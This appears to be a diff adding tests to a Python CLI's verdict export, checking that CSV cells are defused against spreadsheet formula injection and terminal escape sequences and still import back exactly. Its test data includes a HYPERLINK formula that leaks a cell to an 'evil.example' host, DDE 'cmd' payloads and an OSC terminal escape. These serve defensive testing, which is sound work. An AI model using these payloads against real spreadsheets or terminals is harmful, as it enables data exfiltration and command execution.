@@ -1,11 +1,16 @@
 """``relmon verdicts export|import``: a round trip restores the same records and the
 same thresholds (a property over random verdict sets, both formats); bad files are
-clear errors; a JSONL export is accepted by ``relmon certify``."""
+clear errors; a JSONL export is accepted by ``relmon certify``; a CSV export read by
+Python's csv reader holds no cell a spreadsheet would run as a formula and no control
+character a terminal would run, and still imports back exactly."""
 
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
+import re
 import tempfile
 from pathlib import Path
 
@@ -15,6 +20,7 @@ from hypothesis import strategies as st
 
 from adapters.sqlite.store import SqliteStore
 from monitor.app.cli import main
+from monitor.app.spreadsheet import cell_from_csv, cell_to_csv
 from monitor.core.review import ReviewItem, Verdict, verdict_score
 from monitor.core.window import CalibrationWindow
 from monitor.engine.ports import CalibrationRecord
@@ -231,3 +237,114 @@ def test_an_export_without_aci_miss_imports_as_no_aci_step(tmp_path: Path) -> No
         assert main(["verdicts", "import", "--state-dir", str(target), str(out)]) == 0
         records, _ = asyncio.run(_state(target / "relmon.sqlite3"))
         assert [(r.item_id, r.score, r.aci_miss) for r in records] == [("qa:1", 2.0, None)]
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = {
+    "reviewer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "query": "+1+cmd|' /C calc'!A0\x1b]0;pwned\x07 and a NUL \x00 here",
+    "correct_answer": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _plain_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "nan", "infinity")
+
+
+def test_csv_export_defuses_formulas_and_escapes_controls_and_round_trips(
+    tmp_path: Path,
+) -> None:
+    """A spreadsheet opening the CSV export runs no formula and a terminal printing it
+    runs no escape sequence: a cell starting with = + - @ TAB or CR gets a leading ``'``
+    (a plain number keeps its sign), C0/C1 controls but TAB, LF and CR are written as
+    visible ``\\xHH``. Import turns both back, so the round trip is exact; JSONL is as
+    given."""
+    texts = ["-1", "+2.5", "-3e4", "\ttab first", "\rcr first", "-2+3", "'quoted", "x\\x41y"]
+    rows = []
+    for i, text in enumerate([HOSTILE["query"], *texts]):
+        item = ReviewItem(
+            item_id=f"qa:{i}" if i else "=1+1",
+            model="m1",
+            task="qa",
+            query=text,
+            candidates=(("=2+2", 6), ("-1", 3), ("\x1b[31mred", 1)),
+            k=10,
+            inclusion_probability=0.5,
+            sampled_at=1.7e9 + i,
+        )
+        verdict = Verdict(
+            item.item_id,
+            none_of_these=True,
+            correct_answer=HOSTILE["correct_answer"] if i == 0 else text,
+            reviewer=HOSTILE["reviewer"] if i == 0 else text,
+        )
+        rows.append((item, verdict))
+    source = tmp_path / "s"
+    asyncio.run(_fill(source / "relmon.sqlite3", rows))
+    out = tmp_path / "v.csv"
+    export = ["verdicts", "export", "--state-dir", str(source), "-o", str(out)]
+    assert main([*export, "--format", "csv"]) == 0
+
+    with out.open(encoding="utf-8", newline="") as f:
+        table = list(csv.DictReader(f))
+    assert len(table) == len(rows)
+    for row in table:
+        for name, cell in row.items():
+            if cell.startswith(FORMULA_STARTS):
+                assert _plain_number(cell), (name, cell)
+            bad = [c for c in cell if (ord(c) < 32 and c not in "\t\n\r") or 127 <= ord(c) < 160]
+            assert not bad, (name, cell)
+    first = table[0]
+    assert first["id"] == "'=1+1"
+    assert first["reviewer"] == "'" + HOSTILE["reviewer"]
+    assert first["correct_answer"] == "'" + HOSTILE["correct_answer"]
+    assert first["query"] == "'+1+cmd|' /C calc'!A0\\x1b]0;pwned\\x07 and a NUL \\x00 here"
+    by_query = {r["query"]: r for r in table[1:]}
+    # Plain numbers stay numbers; everything else that starts like a formula is text.
+    assert {"-1", "+2.5", "-3e4", "'\ttab first", "'\rcr first", "'-2+3"} <= set(by_query)
+    assert by_query["-1"]["reviewer"] == "-1" and by_query["'-2+3"]["reviewer"] == "'-2+3"
+    assert "''quoted" in by_query and "x\\\\x41y" in by_query  # the escapes' own marks
+    assert json.loads(first["candidates"])[2]["answer"] == "\x1b[31mred"
+
+    # The import reads the same texts back: same items, same verdicts.
+    target = tmp_path / "t"
+    assert main(["verdicts", "import", "--state-dir", str(target), str(out)]) == 0
+    before, after = (
+        asyncio.run(_state(source / "relmon.sqlite3")),
+        asyncio.run(_state(target / "relmon.sqlite3")),
+    )
+    assert after == before
+    assert after[1][0] is not None and after[1][0].reviewer == HOSTILE["reviewer"]
+
+    # JSONL is unchanged: it is data, not a spreadsheet.
+    jsonl = tmp_path / "v.jsonl"
+    assert main(["verdicts", "export", "--state-dir", str(source), "-o", str(jsonl)]) == 0
+    line = json.loads(jsonl.read_text(encoding="utf-8").split("\n")[0])
+    assert line["id"] == "=1+1" and line["query"] == HOSTILE["query"]
+    assert line["reviewer"] == HOSTILE["reviewer"]
+
+
+_tricky = st.text(
+    alphabet=st.sampled_from(["\\", "x", "1", "b", "'", "=", "-", "+", "@", "\t", "\r", "\n"])
+    | st.characters(max_codepoint=0xA0)
+    | st.characters(),
+    max_size=12,
+)
+
+
+@settings(max_examples=500, deadline=None)
+@given(text=_tricky)
+def test_csv_cells_round_trip_and_never_start_a_formula(text: str) -> None:
+    cell = cell_to_csv(text)
+    assert cell_from_csv(cell) == text
+    assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-][0-9.eE+-]+", cell)
+    assert not any((ord(c) < 32 and c not in "\t\n\r") or 127 <= ord(c) < 160 for c in cell)
+    # Through Python's own CSV writer and reader too.
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerow([cell, "x"])
+    (back,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert cell_from_csv(back[0]) == text
